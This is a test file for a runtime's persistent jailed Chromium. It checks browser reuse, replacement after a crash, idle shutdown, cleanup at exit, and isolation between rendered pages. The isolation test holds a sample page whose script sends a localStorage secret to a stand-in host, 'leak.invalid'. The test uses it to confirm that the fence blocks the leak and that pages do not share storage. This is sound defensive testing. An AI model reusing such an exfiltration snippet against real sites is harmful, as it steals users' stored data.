"""A runtime's kept Chromium (``tools.native.kept_browser``): one browser for every render, a new one when it
dies, nothing of one page seen by the next, and no browser left once the runtime closes.

Real Chromium in its bubblewrap jail, found the way a user's machine has it; the processes are read from /proc.
"""

from __future__ import annotations

import os
import signal
import time
from pathlib import Path
from typing import Any

import pytest

from jarvishub.runtime import Runtime
from tests.content.agent import submit
from tests.system_tools import require_system_tool
from tools.native.browser import Viewport, _fence
from tools.native.kept_browser import KeptBrowser

pytestmark = pytest.mark.usefixtures("chromium")

VIEW = Viewport(width=320, height=200)


@pytest.fixture
def chromium(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    require_system_tool("chromium", apt="chromium")
    require_system_tool("bwrap", apt="bubblewrap")
    # Playwright's driver keeps a browser's profile in its temporary folder, and a browser these tests kill leaves
    # it there: this test's own folder, not the session's (whose leftovers fail the suite).
    private = tmp_path / "playwright-tmp"
    private.mkdir()
    monkeypatch.setenv("TMPDIR", str(private))


def _children() -> dict[int, list[int]]:
    tree: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            tree.setdefault(parent, []).append(int(entry.name))
    return tree


def browser_jails() -> list[int]:
    """The outer bubblewrap processes this test process started (each holds one Chromium)."""
    tree, found, todo = _children(), [], [os.getpid()]
    while todo:
        for child in tree.get(todo.pop(), []):
            try:
                name = Path(f"/proc/{child}/comm").read_text().strip()
            except OSError:
                continue
            if name == "bwrap":
                found.append(child)  # its own children are the jail's: not walked
            else:
                todo.append(child)
    return sorted(found)


def wait_until(condition: Any, what: str, limit_s: float = 20.0) -> None:
    deadline = time.monotonic() + limit_s
    while not condition():
        assert time.monotonic() < deadline, what
        time.sleep(0.1)


def render(runtime: Runtime, path: str) -> dict[str, Any]:
    result = submit(runtime, "render_page", path=path, width=VIEW.width, height=VIEW.height)
    assert result.commit is not None and "error" not in result.observation, result
    return result.observation


def test_every_render_of_a_runtime_uses_one_chromium_a_dead_one_is_replaced_and_close_ends_it(
        make_runtime: Any) -> None:
    runtime: Runtime = make_runtime(keep_browser=True)
    page = runtime.project.workspace / "kept.html"
    page.write_text("<h1>Kept</h1>")
    kept = runtime.services["browser"]
    assert isinstance(kept, KeptBrowser) and browser_jails() == []  # launched on the first render, not before

    first = render(runtime, "kept.html")
    jails = browser_jails()
    assert len(jails) == 1
    second = render(runtime, "kept.html")
    assert browser_jails() == jails and kept.launches == 1  # the same Chromium drew both
    assert first["node_id"] != second["node_id"]

    os.killpg(os.getpgid(jails[0]), signal.SIGKILL)  # the browser dies between two renders
    wait_until(lambda: jails[0] not in browser_jails(), "the killed browser to go")
    third = render(runtime, "kept.html")
    assert third["node_id"] and kept.launches == 2 and len(browser_jails()) == 1

    runtime.close()
    wait_until(lambda: browser_jails() == [], "the runtime's browser to close with it")


def test_a_page_rendered_after_another_cannot_read_what_the_first_one_stored(make_runtime: Any) -> None:
    """The first page stores a secret in its origin's storage; the second reads it into a request the fence
    blocks and reports.  Rendered in one shared browser context (the control), the secret crosses over; through
    the kept browser, each render has a context of its own and it never does."""
    runtime: Runtime = make_runtime(keep_browser=True)
    workspace = runtime.project.workspace
    (workspace / "store.html").write_text("<script>localStorage.setItem('k', 'secret42')</script><p>one</p>")
    (workspace / "read.html").write_text(
        "<script>new Image().src = 'http://leak.invalid/' + (localStorage.getItem('k') || 'none')</script><p>two</p>")
    kept: KeptBrowser = runtime.services["browser"]
    roots = [workspace]

    # A page's write reaches its origin's storage in the background (the renderer hands it on), so a read just after
    # it may miss it even where storage is shared: a control of four reads in 0.8 s failed under load in CI.  So the
    # control (one shared context) renders the two pages in turn until the secret shows or LEAK_LIMIT_S passes (a write
    # lost to the navigation away is made again), and the kept browser then gets at least as many rounds, spread over at
    # least as long: what leaked in the control had every chance to leak here.
    def one_context_for_both(browser: Any) -> tuple[list[str], int, float]:
        context, blocked = browser._browser.new_context(), []
        context.route("**/*", lambda route: _fence(route, roots, blocked))
        try:
            tab = context.new_page()
            started, reads = time.monotonic(), 0
            while SECRET not in blocked and time.monotonic() - started < LEAK_LIMIT_S:
                tab.goto((workspace / "store.html").as_uri(), wait_until="load")
                tab.goto((workspace / "read.html").as_uri(), wait_until="load")
                reads += 1
                time.sleep(0.2)
            tab.close()
        finally:
            context.close()
        return blocked, reads, time.monotonic() - started

    shared, control_reads, control_s = kept._run(one_context_for_both)
    assert SECRET in shared, shared  # the attack works when the context is shared

    started, reads = time.monotonic(), []
    while len(reads) < max(control_reads, READS) or time.monotonic() - started < control_s:
        kept.screenshot_file(workspace / "store.html", VIEW, roots)
        reads += kept.screenshot_file(workspace / "read.html", VIEW, roots).blocked
        time.sleep(0.2)
    assert set(reads) == {"http://leak.invalid/none"}, reads


SECRET = "http://leak.invalid/secret42"
READS = 4
"""The fewest rounds (store, then read) through the kept browser: more when the control needed more."""
LEAK_LIMIT_S = 30.0
"""How long the control reads before it counts as failed: far above the 0.2 s a quiet machine needs."""


def test_an_idle_browser_is_closed_and_the_next_render_launches_another(make_runtime: Any,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import tools.native.kept_browser as kept_module

    monkeypatch.setattr(kept_module, "IDLE_S", 1.0)
    runtime: Runtime = make_runtime(keep_browser=True)
    (runtime.project.workspace / "idle.html").write_text("<p>idle</p>")
    render(runtime, "idle.html")
    assert len(browser_jails()) == 1
    wait_until(lambda: browser_jails() == [], "the idle browser to close", limit_s=30)
    render(runtime, "idle.html")
    assert runtime.services["browser"].launches == 2


def test_a_process_that_never_closes_its_runtime_leaves_no_browser_or_profile_behind(tmp_path: Path) -> None:
    """A script that renders and exits without closing: the browser is closed at exit, so neither Chromium nor its
    profile folder (Playwright's, in the temporary folder) outlives the process."""
    import subprocess
    import sys

    temporary = tmp_path / "tmp"
    temporary.mkdir()
    (tmp_path / "page.html").write_text("<p>left open</p>")
    script = ("import sys; from pathlib import Path; from tools.native.kept_browser import KeptBrowser; "
              "from tools.native.browser import Viewport; root = Path(sys.argv[1]); "
              "kept = KeptBrowser(None, 30, [root]); "
              "print(len(kept.screenshot_file(root / 'page.html', Viewport(width=320, height=200), [root]).png))")
    done = subprocess.run([sys.executable, "-c", script, str(tmp_path)], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "TMPDIR": str(temporary)}, cwd=Path(__file__).resolve().parents[2])
    assert done.returncode == 0 and int(done.stdout) > 0, done.stderr[-2000:]
    assert sorted(p.name for p in temporary.iterdir()) == [], "left behind by the process's browser"
